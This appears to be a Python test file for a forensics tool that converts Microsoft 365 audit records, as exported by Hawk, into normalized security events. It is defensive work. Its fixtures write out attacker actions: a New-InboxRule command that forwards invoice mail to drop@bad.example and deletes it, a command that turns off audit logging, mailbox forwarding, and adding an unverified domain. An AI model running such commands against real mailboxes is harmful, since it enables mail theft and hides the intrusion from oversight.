"""Hawk's files: the same events as from the records that it made them of."""

from __future__ import annotations

from typing import Any

from aoc_common.contracts import terms
from each import each
from made_events import event_of

RULE = {
    "CreationTime": "2026-11-20T10:00:00", "Id": "b0a3f2d1-1", "Operation": "New-InboxRule", "RecordType": 1,
    "ResultStatus": "True", "UserType": 2, "Workload": "Exchange", "ClientIP": "198.51.100.7:50111",
    "ObjectId": "EURP01A\\dana\\Invoices", "UserId": "dana@contoso.example", "SessionId": "s-1",
    "Parameters": [
        {"Name": "Name", "Value": "Invoices"}, {"Name": "SubjectContainsWords", "Value": "invoice;payment due"},
        {"Name": "ForwardTo", "Value": "drop@bad.example"}, {"Name": "DeleteMessage", "Value": "True"},
    ],
}  # fmt: skip
SAID = (
    "dana@contoso.example created inbox rule Invoices, forwarding to drop@bad.example and deleting what it catches, "
    "of mail with invoice;payment due in the subject"
)
COMMAND = (
    "New-InboxRule -Name Invoices -SubjectContainsWords 'invoice;payment due' -ForwardTo drop@bad.example "
    "-DeleteMessage $true"
)
#: Hawk's columns are in no order.
SIMPLE = {
    "Param_Name": "Invoices", "Parameters": "Name=Invoices | SubjectContainsWords=invoice;payment due | "
    "ForwardTo=drop@bad.example | DeleteMessage=True", "AuditRecordType": "1", "Operations": "New-InboxRule",
    "AuditCreationTime": "11/20/2026 10:00:00 AM", "Workload": "Exchange", "Param_ForwardTo": "drop@bad.example",
    "UserId": "dana@contoso.example", "RecordType": "ExchangeAdmin", "CreationDate": "11/20/2026 10:00:00 AM",
    "Param_DeleteMessage": "True", "ObjectId": "EURP01A\\dana\\Invoices", "Identity": "b0a3f2d1-1", "UserType": "2",
    "FullCommand": COMMAND, "UserIds": "dana@contoso.example", "AuditId": "b0a3f2d1-1", "Operation": "New-InboxRule",
    "ClientIP": "198.51.100.7:50111", "ResultStatus": "True", "Param_SubjectContainsWords": "invoice;payment due",
    "SessionId": "s-1", "AADSessionId": "",
}  # fmt: skip


def without(row: dict[str, Any], *beginnings: str) -> dict[str, Any]:
    return {name: value for name, value in row.items() if not name.startswith(beginnings)}


@each(
    "row",
    [
        SIMPLE,
        SIMPLE | {"Id": "b0a3f2d1-1", "CreationTime": "11/20/2026 10:00:00 AM"},
        # Columns are those of the first record: another one's parameters may have none.
        without(SIMPLE, "Param_"),
        without(SIMPLE, "Param"),
        {name.upper() if name.startswith("Audit") else name: value for name, value in SIMPLE.items()},
    ],
)
def test_a_simple_record_is_the_event_of_the_record_itself(row: dict[str, Any], ocsf_faults) -> None:
    whole, made = event_of(RULE), event_of(row)

    assert ocsf_faults(made) == []
    assert made.ocsf["message"] == whole.ocsf["message"] == SAID
    assert (made.id, made.time_ms, made.ip, made.result, made.ocsf["severity"]) == (
        whole.id, whole.time_ms, whole.ip, whole.result, "High",
    )  # fmt: skip
    assert set(terms.name_terms("drop@bad.example invoice payment")) <= set(made.terms)


SHORT = {
    "Caller": "dana@contoso.example", "Cmdlet": "New-InboxRule", "FullCommand": COMMAND,
    "RunDate(UTC)": "11/20/2026 10:00:00 AM", "ObjectModified": "Invoices",
}  # fmt: skip


@each(
    ("row", "message", "result"),
    [
        (SHORT, SAID, "unknown"),
        (
            SHORT | {"Cmdlet": "Set-AdminAuditLogConfig", "Caller": "***", "ObjectModified": "Admin Audit Log Settings",
                     "FullCommand": "Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled:$false"},
            "Somebody changed the audit log configuration, setting UnifiedAuditLogIngestionEnabled to False", "unknown",
        ),
        (
            {"CreationTime": "2026-11-20T10:00:00", "Id": "b0a3f2d1-4", "Workload": "AzureActiveDirectory",
             "Operation": "Add unverified domain.", "ResultStatus": "Success", "UserID": "dana@contoso.example",
             "Domain": "evil.example", "User Agent String": "Mozilla/5.0", "Target": "System.Object[]"},
            "dana@contoso.example added domain evil.example, not verified yet", "success",
        ),
        (
            {"Id": "Directory_1_A_1", "Category": "RoleManagement", "Result": "success", "ResultReason": "",
             "ActivityDisplayName": "Add member to role", "ActivityDateTime": "11/20/2026 10:00:00 AM",
             "Target": "Sam Ortiz", "Type": "", "UserPrincipalName": "sam@contoso.example", "UserType": ""},
            "Somebody added Sam Ortiz to a role", "success",
        ),
    ],
)  # fmt: skip
def test_what_other_files_of_hawk_tell(row: dict[str, Any], message: str, result: str) -> None:
    made = event_of(row)

    assert (made.mapper, made.ocsf["message"], made.result) == ("table", message, result)
    assert made.time_ms == 1795168800000


def test_a_directory_audit_without_its_initiator_gives_way_to_the_whole_one() -> None:
    row = {
        "Id": "Directory_1_A_1", "Category": "RoleManagement", "Result": "success", "ResultReason": "",
        "ActivityDisplayName": "Add member to role", "ActivityDateTime": "2026-11-20T10:00:00Z",
        "Target": "Sam Ortiz", "Type": "", "UserPrincipalName": "sam@contoso.example", "UserType": "",
    }  # fmt: skip
    whole = {
        "id": "Directory_1_A_1", "activityDateTime": "2026-11-20T10:00:00Z",
        "activityDisplayName": "Add member to role",
        "initiatedBy": {"user": {"userPrincipalName": "dana@contoso.example"}}, "targetResources": [],
    }  # fmt: skip
    made = event_of(row)

    assert made.id == event_of(whole).id
    assert "incomplete-record" in made.tags


@each(
    ("parameters", "said"),
    [
        ("Identity=sam | ForwardingSmtpAddress=drop@bad.example", "forwarding to drop@bad.example"),
        ("Identity: sam; ForwardingSmtpAddress: smtp:drop@bad.example", "forwarding to smtp:drop@bad.example"),
        ("Identity=sam\nAuditEnabled=False", "setting AuditEnabled to False"),
        ("ForwardingSmtpAddress=drop@bad.example", "forwarding to drop@bad.example"),
    ],
)
def test_parameters_that_a_tool_has_joined_are_read(parameters: str, said: str) -> None:
    row = RULE | {"Operation": "Set-Mailbox", "ObjectId": "sam", "Parameters": parameters}

    assert event_of(row).ocsf["message"].endswith(f"changed mailbox sam, {said}")


def test_a_user_whose_column_is_spelt_otherwise_is_who_acted() -> None:
    row = {name: value for name, value in RULE.items() if name != "UserId"} | {"UserID": "dana@contoso.example"}

    assert event_of(row).actor == "dana@contoso.example"
